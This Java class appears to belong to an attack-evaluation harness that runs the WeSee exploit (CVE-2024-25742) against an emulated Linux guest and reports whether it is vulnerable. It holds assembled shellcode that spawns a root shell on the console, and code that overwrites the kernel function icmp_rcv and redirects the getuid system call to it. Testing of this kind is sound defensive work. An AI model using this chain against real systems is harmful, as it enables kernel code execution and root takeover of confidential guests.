package dev.vesper.cli.attack;

import dev.vesper.machine.Machine;
import dev.vesper.machine.Stop;
import dev.vesper.machine.Until;
import dev.vesper.machine.VcpuView;
import dev.vesper.machine.observe.Event;
import dev.vesper.machine.observe.Symbols;
import dev.vesper.machine.spec.ConsoleInput;
import dev.vesper.x86.Assembler;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.OptionalLong;
import org.jspecify.annotations.Nullable;

/**
 * WeSee's root shell against Linux: code of the host's is written over a function of the kernel
 * that nobody needs, and a system call is led there. It has the kernel start a shell on the
 * console, where the host types. No file of the guest is changed.
 */
final class ShellByWesee {
  private static final String TRIGGER = "__x64_sys_getuid";

  /** What the paper overwrites, too. */
  private static final String VICTIM = "icmp_rcv";

  private static final String TABLE = "level2_kernel_pgt";
  private static final String DIRECT_MAP = "page_offset_base";
  private static final String HELPER = "call_usermodehelper";

  /** Linear address of what the kernel's table of level 2 begins with: __START_KERNEL_map. */
  private static final long KERNEL_MAP = 0xFFFF_FFFF_8000_0000L;

  /**
   * A function that gives the system call back, which shells use too, and starts a program as
   * UMH_WAIT_PROC has it: it returns when that has ended.
   */
  private static final String CODE =
      """
          mov rax, TAKEN
          mov rdx, TRIGGER
          mov [rdx], rax
          sub rsp, 56
          lea rdi, [rel path]
          lea rax, [rel name]
          mov [rsp], rax
          lea rax, [rel option]
          mov [rsp+8], rax
          lea rax, [rel line]
          mov [rsp+16], rax
          xor eax, eax
          mov [rsp+24], rax
          mov rsi, rsp
          lea rdx, [rsp+24]
          mov ecx, 2
          mov rax, HELPER
          call rax
          add rsp, 56
          xor eax, eax
          ret
      path:
          ascii "/bin/"
      name:
          ascii "sh"
          db 0
      option:
          ascii "-c"
          db 0
      line:
          ascii "exec sh -i <>/dev/console >&0 2>&1"
          db 0
      """;

  private static final byte[] TYPED =
      "id || busybox id || /bin/busybox id\n".getBytes(StandardCharsets.US_ASCII);
  private static final String ANSWER = "uid=0";
  private static final int JMP = 0xE9;
  private static final int NOP = 0x90;
  private static final long WRITING = 400_000_000;
  private static final long STARTING = 100_000_000;
  private static final long SLICE = 100_000;

  private ShellByWesee() {}

  static Attack attack() {
    return Attack.lawful(
        "wesee-shell",
        "kernel code is overwritten, and starts a shell on the console in which the host is root",
        "WeSee, S&P 2024, CVE-2024-25742, section on the root shell",
        "Linux with /bin/sh, in which a program calls getuid; its places in the handler are known",
        "the kernel executes the host's code, and the shell answers that it is root's",
        ShellByWesee::carryOut);
  }

  /** The far end of the guest's serial line. */
  private static final class Line implements ConsoleInput {
    private final ByteArrayOutputStream said = new ByteArrayOutputStream();
    private byte[] typed = new byte[0];
    private int next;

    void type(byte[] bytes) {
      typed = bytes;
      next = 0;
      said.reset();
    }

    String said() {
      return said.toString(StandardCharsets.ISO_8859_1);
    }

    @Override
    public int poll() {
      return next < typed.length ? typed[next++] & 0xFF : -1;
    }

    @Override
    public boolean closed() {
      return false;
    }

    @Override
    public void await(long nanos) {
      // Nobody types but between two runs of the machine.
    }
  }

  private static Verdict carryOut(AttackRun run) {
    if (run.target().kind() != Target.Kind.LINUX) {
      return Verdict.notApplicable("the chain is one of Linux");
    }
    long n = run.instructionsAt(TRIGGER, RootByWesee::reach);
    if (n < 0) {
      return Verdict.notApplicable("no program calls getuid");
    }
    Line line = new Line();
    try (Trial t = run.trial(b -> b.console(line.said::write).input(line))) {
      Machine m = t.machine();
      m.run(Until.instructions(n - n / 8));
      VcpuView v = m.observer().vcpu(0);
      Symbols names = m.symbols(v);
      KernelCode code = plan(names, v, m.cBit());
      KernelAccess access = code == null ? null : new KernelAccess(t, code);
      if (code == null || access == null || !access.begin(n + RootByWesee.BEFORE, names, v)) {
        return Verdict.notApplicable("the kernel's code is laid out otherwise");
      }
      Stop s = null;
      for (long next = n; !access.over() && m.instructions() < n + WRITING; next += SLICE) {
        s = m.run(Until.symbol(VICTIM).or(Until.instructions(next)));
        if (s instanceof Stop.Ended || s instanceof Stop.Breakpoint) {
          break;
        }
      }
      List<String> proof = new ArrayList<>();
      proof.add("#VC was injected " + access.injections() + " times");
      proof.add("eight bytes of code were written " + code.written() + " times");
      if (!access.over()) {
        String ending = s instanceof Stop.Ended e ? t.ending(e.outcome()) : null;
        return new Verdict.Defended(ending != null ? ending : "the chain comes to no end", proof);
      }
      return shell(t, s, line, proof);
    }
  }

  private static @Nullable KernelCode plan(Symbols names, VcpuView v, int cBit) {
    OptionalLong trigger = KernelAccess.address(names, TRIGGER);
    OptionalLong victim = KernelAccess.address(names, VICTIM);
    OptionalLong table = data(names, TABLE);
    OptionalLong direct = data(names, DIRECT_MAP);
    OptionalLong helper = KernelAccess.address(names, HELPER);
    if (trigger.isEmpty()
        || victim.isEmpty()
        || table.isEmpty()
        || direct.isEmpty()
        || helper.isEmpty()) {
      return null;
    }
    OptionalLong taken = SilentMoves.number(v, trigger.getAsLong());
    if (taken.isEmpty()) {
      return null;
    }
    KernelCode code = new KernelCode(KERNEL_MAP, table.getAsLong(), direct.getAsLong(), cBit);
    long to = victim.getAsLong();
    byte[] function =
        new Assembler(to, 64)
            .constant("HELPER", helper.getAsLong())
            .constant("TRIGGER", trigger.getAsLong())
            .constant("TAKEN", taken.getAsLong())
            .add(CODE)
            .finish();
    code.write(to, Arrays.copyOf(function, function.length + 7 & -8));
    byte[] jump = new byte[8];
    Arrays.fill(jump, (byte) NOP);
    int by = (int) (to - trigger.getAsLong() - 5);
    ByteBuffer.wrap(jump).order(ByteOrder.LITTLE_ENDIAN).put((byte) JMP).putInt(by);
    // The system call is led astray last.
    code.write(trigger.getAsLong(), jump);
    return code;
  }

  private static OptionalLong data(Symbols names, String symbol) {
    return names.data().stream()
        .filter(s -> s.name().equals(symbol))
        .mapToLong(Symbols.Symbol::address)
        .findFirst();
  }

  private static Verdict shell(Trial t, @Nullable Stop reached, Line line, List<String> proof) {
    Machine m = t.machine();
    Stop s = reached;
    if (!(s instanceof Stop.Breakpoint)) {
      s = m.run(Until.symbol(VICTIM).or(Until.instructions(m.instructions() + STARTING)));
    }
    if (!(s instanceof Stop.Breakpoint)) {
      return new Verdict.Defended("the kernel does not execute the code", proof);
    }
    VcpuView v = m.observer().current();
    proof.add("the kernel executes '" + v.instruction() + "' at " + Event.hex(v.rip()));
    m.run(Until.instructions(m.instructions() + STARTING));
    line.type(TYPED);
    for (int i = 0; i < 10 && !line.said().contains(ANSWER); i++) {
      m.run(Until.instructions(m.instructions() + STARTING / 4));
    }
    int at = line.said().indexOf(ANSWER);
    if (at < 0) {
      return new Verdict.Vulnerable("executes code of the host's in its kernel", proof);
    }
    proof.add("the shell answers " + line.said().substring(at).lines().findFirst().orElse(""));
    return new Verdict.Vulnerable("gives the host a shell of root's", proof);
  }
}
